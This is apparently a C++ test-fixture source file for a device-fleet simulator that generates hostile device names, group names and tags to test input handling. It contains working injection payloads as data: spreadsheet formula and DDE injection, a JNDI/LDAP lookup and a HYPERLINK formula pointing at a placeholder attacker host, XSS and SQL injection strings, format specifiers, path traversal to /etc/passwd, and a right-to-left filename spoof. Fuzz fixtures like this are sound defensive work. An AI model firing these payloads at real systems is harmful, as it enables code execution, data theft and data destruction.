#include "core/simulator/fleet/hostilenames.h"

namespace Trustgauge::Simulator {

namespace {

const QList<QByteArray> &names()
{
    static const QList<QByteArray> all{
        "=cmd|'/C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1;2)",
        "\t=HYPERLINK(\"http://collector.attacker.invalid\";\"open\")",
        "\r=1+1",
        "quote\"inside\"name",
        "comma,semicolon;backslash\\slash/name",
        "line one\nline two\r\nline three",
        QByteArray("null\0byte", 9),
        "bell\aescape\x1b[31mred\x1b[0m",
        QByteArray("report\xe2\x80\xae") + "fdp.exe\xe2\x80\xac", // right-to-left override in the middle
        "<img src=x onerror=alert(1)>",
        "<b>bold</b><script>alert('x')</script>&amp;",
        "'); DROP TABLE devices; --",
        "${jndi:ldap://collector.attacker.invalid/a}",
        "%s%n%x %1 %2 %L1",
        "../../../../etc/passwd",
        "\xf0\x9f\x9a\x80\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x92\xbb-laptop-\xf0\x9f\x94\xa5",
        QByteArray("Z\xcc\xb6\xcc\xa1\xcc\xa2\xcc\xa7\xcc\xb1\xcc\xb2") + "a\xcc\xb6\xcc\x9b\xcc\x80\xcc\x81lgo",
        "\xd7\x9e\xd7\x97\xd7\xa9\xd7\x91-\xd8\xad\xd8\xa7\xd8\xb3\xd9\x88\xd8\xa8-pc",
        "zero\xe2\x80\x8bwidth\xef\xbb\xbfname",
        "   leading and trailing   ",
        "",
        "\xed\xa0\xbd-half-a-pair", // a lone surrogate, sent as an escape
        "broken-\xff\xfe-bytes",    // not UTF-8
        "NULL",
        "NaN",
        "javascript:alert(1)",
        "https://collector.attacker.invalid/?q=device",
    };
    return all;
}

} // namespace

QByteArray hostileName(int index, const QByteArray &plain)
{
    const auto count = static_cast<int>(names().size());
    const int pick = index % (count + 4);
    if (pick < count)
        return names().at(pick);
    if (pick == count)
        return QByteArray(2'000, 'W');
    if (pick == count + 1)
        return QByteArray("\xe6\xbc\xa2\xe5\xad\x97").repeated(1'000);
    return plain;
}

QByteArray hostileGroup(int index, const QByteArray &plain)
{
    switch (index % 5) {
    case 0:
        return "=2+5+cmd|' /C calc'!A0";
    case 1:
        return "<h1>Group</h1>\n\xe2\x80\xaepuorG";
    case 2:
        return "a;b\\c,\"d\"";
    default:
        return plain;
    }
}

QList<QByteArray> hostileTags(int index)
{
    QList<QByteArray> tags{"a;b", "back\\slash", "=1+2", "line\nbreak", "", "<i>tag</i>"};
    if (index % 7 == 0)
        tags.append(QByteArray(1'000, 't'));
    return tags;
}

} // namespace Trustgauge::Simulator
